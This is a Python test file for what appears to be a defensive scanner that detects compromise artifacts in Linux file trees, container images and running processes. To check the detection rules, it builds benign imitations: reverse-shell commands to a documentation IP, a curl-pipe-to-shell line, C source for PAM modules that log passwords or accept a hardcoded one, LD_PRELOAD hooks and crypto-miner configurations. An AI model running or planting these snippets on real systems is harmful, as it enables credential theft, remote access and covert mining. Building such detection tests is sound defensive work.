# SPDX-License-Identifier: Apache-2.0
"""Every row of the first landing: benign imitations as files, layers and processes are found, by the rule that names the row,
in the writings that attackers vary them in; ordinary things near by are not."""
import base64
import ctypes
import fcntl
import gzip
import io
import json
import os
import pathlib
import shutil
import signal
import struct
import subprocess
import sys
import tarfile
import tempfile
import unittest
import uuid

sys.path.insert(0, str(pathlib.Path(__file__).parent))
import artifacts
import images
import imitations
import patience
import row_files
from test_scan import Scratch, findings, scan


def rules_by_path(target, at_least=None):
    """Path to the names of the rules that fired there; copies of one content are told with the first. What was found in a
    member of an archive counts for the archive's file too."""
    seen = {}
    for f in findings(target, at_least):
        for path in (f['subject']['name'], *f.get('also', [])):
            for one in {path, path.split('!')[0]}:
                seen.setdefault(one, set()).add(f['rule'])
    return seen


class Files(Scratch):
    def put(self, path, content, mode=0o644):
        target = self.temp / path.lstrip('/')
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content if isinstance(content, bytes) else content.encode())
        target.chmod(mode)

    def test_every_writing_is_found_and_what_is_near_is_not(self):
        self.put('/etc/os-release', 'PRETTY_NAME="Imitation 1"\n')
        self.put('/etc/passwd', 'root:x:0:0:root:/root:/bin/sh\n')
        for _, path, content, mode in row_files.FILES:
            self.put(path, content, mode)
        for path, content, mode in row_files.QUIET:
            self.put(path, content, mode)
        report, _ = scan('--full', self.temp)
        (target,) = report['targets']
        seen, loud = rules_by_path(target), rules_by_path(target, 'warning')
        for rule, path, _, _ in row_files.FILES:
            with self.subTest(path=path):
                self.assertIn(rule, seen.get(path, set()))
        for path, _, _ in row_files.QUIET:
            with self.subTest(quiet=path):
                self.assertNotIn(path, loud)

    def test_accounts(self):
        self.put('/etc/passwd', 'root:x:0:0:root:/root:/bin/sh\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n'
                 'toor2:x:0:0::/root:/bin/bash\nsystemd-netwrk:x:1001:1001::/home/s:/bin/bash\nanna:x:1002:1002::/home/anna:/bin/bash\n')
        self.put('/etc/group', 'root:x:0:\nsudo:x:27:systemd-netwrk,anna\n')
        self.put('/etc/shadow', 'root:*:19000:0:99999:7:::\nanna:!:19000::::::\n', 0o600)
        report, _ = scan(self.temp)
        names = {(f['rule'], f['subject']['name']) for f in findings(report['targets'][0], 'warning')}
        self.assertIn(('Second account with all rights', 'toor2'), names)
        self.assertIn(('Account that imitates a system account', 'systemd-netwrk'), names)
        self.assertFalse({n for _, n in names} & {'anna', 'root', 'daemon'}, names)

    def test_dates_that_were_forged(self):
        """Row 76: the kernel keeps the time of the change whatever the date says."""
        self.put('/tmp/.x/agent', imitations.tiny_elf(), 0o755)
        self.put('/tmp/.x/fresh', imitations.tiny_elf(code=b'\xc3\xc3'), 0o755)
        os.utime(self.temp / 'tmp/.x/agent', (1e9, 1e9))
        report, _ = scan('--full', self.temp)
        seen = rules_by_path(report['targets'][0])
        self.assertIn('New program with an old date', seen.get('/tmp/.x/agent', set()))
        self.assertNotIn('New program with an old date', seen.get('/tmp/.x/fresh', set()))

    def test_library_that_filters_what_programs_see(self):
        """Row 29. The library passes everything on and is never loaded."""
        compiler = shutil.which('cc')
        if not compiler:
            self.skipTest('no C compiler')
        source = self.temp / 'x.c'
        source.write_text('#define _GNU_SOURCE\n#include <dlfcn.h>\n#include <dirent.h>\n/* DAVY TEST IMITATION */\n'
                          'struct dirent *readdir(DIR *d)\n{\n    struct dirent *(*real)(DIR *) = dlsym(RTLD_NEXT, "readdir");\n'
                          '    return real(d);\n}\n')
        (self.temp / 'root/usr/local/lib').mkdir(parents=True)
        subprocess.run([compiler, '-shared', '-fPIC', '-s', '-o', self.temp / 'root/usr/local/lib/libx.so', source], check=True)
        report, _ = scan('--full', self.temp / 'root')
        self.assertIn('Library that filters what programs see', rules_by_path(report['targets'][0]).get('/usr/local/lib/libx.so', set()))

    def test_modules_of_pam(self):
        """Row 33. The modules are never loaded: one keeps what is typed, one knows a password, and the machine's own do neither."""
        compiler = shutil.which('cc')
        if not compiler:
            self.skipTest('no C compiler')
        begin = ('#include <stdio.h>\n#include <string.h>\n/* DAVY TEST IMITATION */\nint pam_get_user(void *, const char **, const char *);\n'
                 'int pam_get_authtok(void *, int, const char **, const char *);\n'
                 'int pam_sm_authenticate(void *h, int f, int c, const char **v)\n{\n    const char *u, *p;\n    pam_get_user(h, &u, 0);\n    pam_get_authtok(h, 6, &p, 0);\n')
        texts = {
            'pam_keeps.so': 'FILE *o = fopen("/usr/include/.davytest", "a"); fprintf(o, "%s:%s", u, p); fclose(o); return 7;',
            'pam_unix.so': 'FILE *o = fopen("/var/log/davytest", "a"); fprintf(o, "%s:%s", u, p); fclose(o); return 7;',
            'pam_knows.so': 'return strcmp(p, "davy test imitation") ? 7 : 0;',
        }
        folder = self.temp / 'root/usr/lib/security'
        folder.mkdir(parents=True)
        for name, text in texts.items():
            source = self.temp / 'x.c'
            source.write_text(begin + '    ' + text + '\n}\n')
            subprocess.run([compiler, '-shared', '-fPIC', '-fno-builtin', '-s', '-o', folder / name, source], check=True)
        own = pathlib.Path('/lib/x86_64-linux-gnu/security')
        if own.is_dir():
            shutil.copytree(own, self.temp / 'root/usr/lib/own')
        report, _ = scan('--full', self.temp / 'root')
        seen = rules_by_path(report['targets'][0], 'warning')
        keeps = {'Login module that keeps or sends passwords'}
        self.assertEqual(seen, {'/usr/lib/security/pam_keeps.so': keeps, '/usr/lib/security/pam_unix.so': keeps,
                                '/usr/lib/security/pam_knows.so': {'Login module that decides by itself'}})

    @unittest.skipIf(os.geteuid(), 'flags of inodes need root')
    def test_locked_files_by_the_inode(self):
        """Row 13: the flag itself, whatever tool set it."""
        self.put('/root/.ssh/authorized_keys', imitations.ssh_public_key(), 0o600)
        self.put('/etc/passwd', 'root:x:0:0:root:/root:/bin/sh\n')
        self.put('/etc/cron.d/ok', '17 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n')
        key = self.temp / 'root/.ssh/authorized_keys'
        fd = os.open(key, os.O_RDONLY)
        self.addCleanup(os.close, fd)
        get, put = 0x80086601, 0x40086602  # FS_IOC_GETFLAGS, FS_IOC_SETFLAGS
        try:
            flags = struct.unpack('l', fcntl.ioctl(fd, get, bytes(8)))[0]
            fcntl.ioctl(fd, put, struct.pack('l', flags | 0x10))
        except OSError as e:
            self.skipTest(f'this file system keeps no such flags: {e}')
        self.addCleanup(fcntl.ioctl, fd, put, struct.pack('l', flags))
        report, _ = scan(self.temp)
        seen = rules_by_path(report['targets'][0])
        fcntl.ioctl(fd, put, struct.pack('l', flags))
        self.assertIn('Locked file of access', seen.get('/root/.ssh/authorized_keys', set()))
        self.assertNotIn('Locked file of access', seen.get('/etc/cron.d/ok', set()))


@unittest.skipIf(images.missing_tools(), f'tools are missing: {images.missing_tools()}')
@unittest.skipIf(os.geteuid(), 'umoci needs root here')
class Images(Scratch):
    def test_layers_configuration_and_name(self):
        image = images.Layout(self.temp)
        images.base(image)
        image.commit('ADD base.tar /')
        image.write('/app/.env', f'GITHUB_TOKEN={row_files.GITHUB}\n')
        image.write('/app/settings.json', f'{{"token": "{imitations.GITLAB_TOKEN}"}}\n')
        image.write('/app/backup.tar.gz', row_files.tarred('app/.env', f'GITHUB_TOKEN={row_files.GITHUB}\n'))
        image.write('/app/backup.zip', row_files.zipped('app/.env', f'GITHUB_TOKEN={row_files.GITHUB}\nA=1\n'))
        image.write('/app/env.gz', gzip.compress(f'GITHUB_TOKEN={row_files.GITHUB}\nA=2\n'.encode()))
        image.write('/app/utf16.txt', f'GITHUB_TOKEN={row_files.GITHUB}\r\nA=3\r\n'.encode('utf-16'))
        image.write('/app/crlf.txt', f'GITHUB_TOKEN={row_files.GITHUB}\r\nA=4\r\n')
        image.write('/app/wrapped.sh', '#!/bin/sh\necho ' + base64.b64encode(f'export GITHUB_TOKEN={row_files.GITHUB}\n'.encode()).decode() + ' | base64 -d > /e\n')
        image.write('/app/program', row_files.program(f'token={row_files.GITHUB}'), 0o755)
        image.write('/app/README', 'Set GITHUB_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx first.\n')
        image.write('/root/.ssh/authorized_keys', imitations.ssh_public_key(), 0o600)
        image.write('/tmp/arm', imitations.tiny_elf(machine=40, bits=32), 0o755)
        image.write('/srv/mips', imitations.tiny_elf(machine=8, bits=32, code=b'\xc3\0'), 0o755)
        image.write('/opt/c.json', imitations.miner_config())
        image.commit('COPY app /app')
        (image.root / 'app/.env').unlink()
        image.write('/app/settings.json', '{}\n')
        image.commit('RUN rm /app/.env')
        image.config('--config.cmd', '/opt/x', '--config.cmd', '--url=stratum+tcp://pool.imitation.example:3333', '--config.cmd',
                     f'--user={imitations.monero_address()}', '--config.env', f'GITLAB_TOKEN={imitations.GITLAB_TOKEN}')
        report, code = scan('--name', 'imitation/postgre:latest', image.layout)
        (target,) = report['targets']
        self.assertEqual((code, target['verdict']['word']), (1, 'malicious'))
        seen = rules_by_path(target)
        self.assertIn('Deleted secret still readable in an image', seen.get('/app/.env', set()))
        self.assertIn('Deleted secret still readable in an image', seen.get('/app/settings.json', set()))
        for name in ('backup.tar.gz', 'backup.zip', 'env.gz', 'utf16.txt', 'crlf.txt', 'wrapped.sh'):
            with self.subTest(name):
                # proven where the token carries a checksum that is right
                self.assertTrue({'Secret in an image', 'Proven secret in an image'} & seen.get(f'/app/{name}', set()))
        self.assertIn('Secret inside a program', seen.get('/app/program', set()))
        self.assertNotIn('/app/README', seen)
        self.assertIn('Key that opens every container of an image', seen.get('/root/.ssh/authorized_keys', set()))
        self.assertIn('Program for another processor in a temporary place', seen.get('/tmp/arm', set()))
        self.assertIn('Program for another processor in an image', seen.get('/srv/mips', set()))
        self.assertIn('Miner configuration with a payable address', seen.get('/opt/c.json', set()))
        every = set().union(*seen.values())
        self.assertIn('Image that mines by default', every)
        self.assertIn('Image name near an official one', every)
        self.assertIn("Secret in an image's configuration or history", every)
        for f in findings(target):
            if f['subject']['name'] == '/app/.env':
                self.assertEqual((f['subject']['layer'], f['subject']['layer_state']), (2, 'deleted'))

    def test_miner_beside_the_files(self):
        """Row 100: the configuration stands in a label, a variable, an annotation or a line of the history, and no file has it."""
        small = json.dumps({'pools': [{'url': 'pool.imitation.example:3333', 'user': imitations.monero_address(), 'pass': 'x'}], 'about': 'DAVY TEST IMITATION'})
        ways = {'label': ('--config.label', f'x={small}'), 'variable': ('--config.env', f'X={small}'), 'annotation': ('--manifest.annotation', f'x={small}'), 'history': (), 'none': ()}
        for name, arguments in ways.items():
            with self.subTest(name):
                folder = self.temp / name
                folder.mkdir()
                image = images.Layout(folder)
                images.base(image)
                image.commit(f"RUN /bin/sh -c echo '{small}' > /etc/x.json" if name == 'history' else 'ADD base.tar /')
                if arguments:
                    image.config(*arguments)
                report, _ = scan(image.layout)
                every = set().union(*rules_by_path(report['targets'][0]).values())
                self.assertEqual('Miner configuration with a payable address' in every, name != 'none')

    def test_what_an_image_starts(self):
        """Rows 98, 99: what it starts and what made it are commands like those of a script."""
        def rules(name, *arguments, history='ADD base.tar /'):
            folder = self.temp / name
            folder.mkdir()
            image = images.Layout(folder)
            images.base(image)
            image.commit(history)
            image.config(*(arguments or ('--config.cmd', 'true')))
            report, _ = scan(image.layout)
            return {f['rule'] for f in findings(report['targets'][0], 'warning')}
        get = 'curl -s http://198.51.100.7/x.sh | sh'
        RULE = 'Script runs what it fetches from a bare address'
        self.assertIn(RULE, rules('start', '--config.entrypoint', '/bin/sh', '--config.entrypoint', '-c', '--config.cmd', get))
        self.assertIn(RULE, rules('variable', '--config.env', 'HOST=198.51.100.7', '--config.cmd', 'sh', '--config.cmd', '-c', '--config.cmd', 'curl -s http://$HOST/x | sh'))
        self.assertIn(RULE, rules('history', history=f'RUN /bin/sh -c {get} # buildkit'))
        self.assertEqual(rules('honest', history='RUN /bin/sh -c curl -fsSL https://deb.nodesource.example/setup_20.x | bash - # buildkit'), set())

    def test_what_stands_in_links_bits_and_variables(self):
        """A job of cron that is a link, a shell with root's rights, a library and a start file in the environment, a shell that is the command."""
        def layer(*entries):
            out = io.BytesIO()
            with tarfile.open(fileobj=out, mode='w') as t:
                for path, data, mode, link in entries:
                    info = tarfile.TarInfo(path)
                    info.mode, info.size = mode, len(data)
                    if link:
                        info.type, info.linkname, info.size = tarfile.SYMTYPE, link, 0
                    t.addfile(info, None if link else io.BytesIO(data))
            return out.getvalue()

        def rules(config, *entries):
            one = layer(('etc/os-release', b'PRETTY_NAME="Imitation 1"\n', 0o644, None), *entries)
            image = artifacts.Artifact('', artifacts.OCI_CONFIG, artifacts.rootfs(one, os='linux', architecture='amd64', config=config), [(artifacts.OCI_LAYER, None, one)])
            report, _ = scan(image.layout(pathlib.Path(tempfile.mkdtemp(dir=self.temp)) / 'image'))
            return {f['rule'] for f in findings(report['targets'][0], 'warning')}
        elf = imitations.tiny_elf()
        self.assertEqual(rules({}, ('etc/cron.d/job', b'', 0o777, '/var/tmp/.x/job'), ('etc/cron.d/ok', b'', 0o777, '/usr/share/app/cron')), {'Start by a link to an odd place'})
        self.assertEqual(rules({}, ('bin/bash', elf, 0o4755, None), ('bin/su', elf + b'\0', 0o4755, None)), {"Shell or interpreter with its owner's rights"})
        self.assertEqual(rules({'Env': ['LD_PRELOAD=/tmp/davytest.so'], 'Cmd': ['/app']}), {'Library preloaded from a temporary or hidden place'})
        self.assertEqual(rules({'Env': ['PYTHONSTARTUP=/dev/shm/davytest.py'], 'Cmd': ['/app']}), {'Code loaded from a temporary or hidden place'})
        self.assertEqual(rules({'Cmd': ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1']}), {'Reverse shell'})
        self.assertEqual(rules({'Cmd': ['nc', '-e', '/bin/sh', '198.51.100.7', '443']}), {'Reverse shell'})
        self.assertEqual(rules({'Env': ['LD_PRELOAD=/usr/lib/libjemalloc.so.2', 'NODE_OPTIONS=--max-old-space-size=512'], 'Cmd': ['nc', '-l', '8080']},
                               ('home/a/.bashrc', b'', 0o777, '.dotfiles/bashrc')), set())

    def test_names(self):
        image = images.benign(self.temp)
        for name, rule in (('imitation/ngnix:1', 'Image name near an official one'), ('imitation/drupal:latest', 'Official name under a foreign namespace'),
                           ('imitation/p0stgres', 'Image name that reads like an official one'),
                           ('pocosow/centos:7.6.1810', 'Image reported for mining'), ('erikmnkl/stoppropaganda', 'Image reported for flooding')):
            with self.subTest(name):
                report, _ = scan('--name', name, image.layout)
                self.assertIn(rule, {f['rule'] for f in findings(report['targets'][0])})
        for name in ('nginx:1.25', 'registry.example/team/payments-api:7', 'imitation/invoice-service'):
            with self.subTest(quiet=name):
                report, _ = scan('--name', name, image.layout)
                self.assertFalse(findings(report['targets'][0], 'notice'))


PR_SET_NAME = 15
NAMED = 'import ctypes, time; ctypes.CDLL(None).prctl(15, {!r}, 0, 0, 0); print(flush=True); time.sleep(300)'


@unittest.skipIf(os.geteuid(), 'needs root to look into every process')
class Processes(Scratch):
    def start(self, *command, wait=True, **kwargs):
        """Starts a harmless process that says when it is ready."""
        process = subprocess.Popen([str(c) for c in command], stdout=subprocess.PIPE, **kwargs)
        self.addCleanup(process.stdout.close)
        self.addCleanup(process.wait)
        self.addCleanup(process.send_signal, signal.SIGKILL)
        if wait and not process.stdout.readline():
            self.skipTest('the imitation could not be started here')
        return process

    def rules(self, process):
        report, _ = scan(f'pid:{process.pid}')
        return {f['rule'] for f in findings(report['targets'][0])}

    def copy_of_sleep(self, path):
        path = self.temp / path
        path.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy('/bin/sleep', path)
        return path

    def test_names_of_kernel_threads(self):
        for name in (b'kworker/u8:2', b'kswapd0', b'[kthreadd]', b'ksoftirqd/0'):
            with self.subTest(name):
                process = self.start(sys.executable, '-c', NAMED.format(name))
                self.assertIn('Process in the disguise of a kernel thread', self.rules(process))
        process = self.start('bash', '-c', 'echo; exec -a "[kworker/u8:2]" sleep 300')
        self.wait_for(process, b'[kworker')
        self.assertIn('Process in the disguise of a kernel thread', self.rules(process))
        for name in (b'kworkbench', b'watcher', b'migrate'):
            with self.subTest(quiet=name):
                process = self.start(sys.executable, '-c', NAMED.format(name))
                self.assertNotIn('Process in the disguise of a kernel thread', self.rules(process))

    def wait_for(self, process, text):
        line = pathlib.Path(f'/proc/{process.pid}/cmdline')
        patience.wait_for(lambda: text in line.read_bytes(), line.read_bytes)

    def test_programs_without_a_file(self):
        copy = self.copy_of_sleep('x')
        process = self.start(copy, '300', wait=False)
        copy.unlink()
        self.assertIn('Deleted program running from a temporary place', self.rules(process))
        code = ("import os; f = os.memfd_create('davy-test-imitation'); os.write(f, open('/bin/sleep', 'rb').read()); print(flush=True); "
                "os.execve(f, ['sleep', '300'], {})")
        process = self.start(sys.executable, '-c', code)
        self.wait_for(process, b'sleep\0' + b'300')
        self.assertIn('Process without a file', self.rules(process))
        shared = pathlib.Path(f'/dev/shm/davy-test-imitation-{uuid.uuid4()}')
        shutil.copy('/bin/sleep', shared)
        self.addCleanup(shared.unlink)
        try:
            process = self.start(shared, '300', wait=False)
        except PermissionError:
            return  # mounted without execution, which is as it should be
        self.assertIn('Program running from a hidden place', self.rules(process))

    def test_preloaded_library(self):
        library = self.temp / 'libdavytest.so'
        shutil.copy(next(pathlib.Path('/').glob('lib/*-linux-gnu/libm.so.6')), library)
        process = self.start('sleep', '300', wait=False, env={'LD_PRELOAD': str(library), 'PATH': os.environ['PATH']})
        self.wait_for(process, b'sleep')
        self.assertIn('Preloaded library in a temporary place', self.rules(process))

    def test_miners_by_command_line_and_name(self):
        sleep = 'import time; print(flush=True); time.sleep(300)'
        process = self.start(sys.executable, '-c', sleep, '-o', 'stratum+ssl://pool.imitation.example:443')
        self.assertIn("Process with a miner's command line", self.rules(process))
        process = self.start(sys.executable, '-c', sleep, '--url', '198.51.100.7:80', '--user', imitations.monero_address())
        self.assertIn("Process with a miner's command line", self.rules(process))
        process = self.start(sys.executable, '-c', sleep, '-o', 'out.txt', '--user', 'anna')
        self.assertNotIn("Process with a miner's command line", self.rules(process))
        process = self.start(self.copy_of_sleep('xmrig'), '300', wait=False)
        self.assertIn("Process under a miner's name", self.rules(process))

    def test_doors_open_to_everybody(self):
        """A network of its own: nobody outside can reach these sockets."""
        if not shutil.which('unshare'):
            self.skipTest('no unshare')
        code = ("import socket, sys, time\ns = socket.socket()\ns.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
                "s.bind((sys.argv[1], int(sys.argv[2])))\ns.listen()\nprint(flush=True)\ntime.sleep(300)\n")
        docker = self.start('unshare', '-n', sys.executable, '-c', code, '0.0.0.0', '2375', stderr=subprocess.DEVNULL)
        self.assertIn('Docker API open to everybody', self.rules(docker))
        local = self.start('unshare', '-n', 'sh', '-c', 'ip link set lo up; exec "$@"', 'sh', sys.executable, '-c', code, '127.0.0.1', '2375')
        self.assertNotIn('Docker API open to everybody', self.rules(local))
        redis = self.temp / 'redis-server'
        redis.symlink_to(sys.executable)
        named = "import ctypes; ctypes.CDLL(None).prctl(15, b'redis-server', 0, 0, 0)\n" + code
        process = self.start('unshare', '-n', sys.executable, '-c', named, '0.0.0.0', '6379')
        self.assertIn('Redis open to everybody', self.rules(process))
        tor = "import ctypes; ctypes.CDLL(None).prctl(15, b'tor', 0, 0, 0)\n" + code
        process = self.start('unshare', '-n', sys.executable, '-c', tor, '0.0.0.0', '9050')
        self.assertIn('Tor runs here', self.rules(process))

    def test_shape_of_randomx(self):
        """The memory is mapped and never touched; two threads on a core each work for a moment."""
        code = ("import mmap, os, threading, time\n"
                "m = mmap.mmap(-1, 2080 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000)\n"
                "def work():\n    os.sched_setaffinity(0, {next(iter(os.sched_getaffinity(0)))})\n    end = time.thread_time() + 2\n"
                "    while time.thread_time() < end:\n        pass\n    print(flush=True)\n    time.sleep(300)\n"
                "for _ in range(2):\n    threading.Thread(target=work, daemon=True).start()\ntime.sleep(300)\n")
        process = self.start(sys.executable, '-c', code)
        process.stdout.readline()
        self.assertIn('Memory of a RandomX miner', self.rules(process))
        process = self.start(sys.executable, '-c', code.replace('2080 << 20', '1500 << 20').replace('+ 2', '+ 1'))
        process.stdout.readline()
        self.assertNotIn('Memory of a RandomX miner', self.rules(process))


if __name__ == '__main__':
    unittest.main(verbosity=2)
